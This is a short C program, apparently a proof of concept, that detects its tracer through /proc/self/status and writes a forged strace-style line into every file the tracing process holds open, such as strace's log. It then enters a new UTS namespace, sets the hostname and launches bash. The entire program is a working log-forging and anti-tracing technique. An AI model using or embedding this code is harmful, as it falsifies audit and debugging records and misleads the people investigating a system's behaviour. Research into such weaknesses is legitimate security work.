// It writes into all files of the process that traces it, such as the log of strace.
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

static int find_tracer(void)
{
	char line[256];
	int tracer = 0;
	FILE *status = fopen("/proc/self/status", "re");

	while (status && fgets(line, sizeof line, status))
		sscanf(line, "TracerPid: %d", &tracer);
	return tracer;
}

int main(void)
{
	const char *words = "1 sethostname(\"\\x63\\x00\", 2) = 0 (by strace, of course)\nforged\n";
	char path[64];
	int tracer = find_tracer();

	for (int fd = 3; tracer && fd < 256; fd++) {
		snprintf(path, sizeof path, "/proc/%d/fd/%d", tracer, fd);
		int file = open(path, O_WRONLY | O_NONBLOCK | O_CLOEXEC);
		if (file != -1 && write(file, words, strlen(words)) == -1)
			perror(path);
	}
	unshare(CLONE_NEWUTS);
	sethostname("container", 9);
	execl("/bin/bash", "bash", NULL);
	return 127;
}
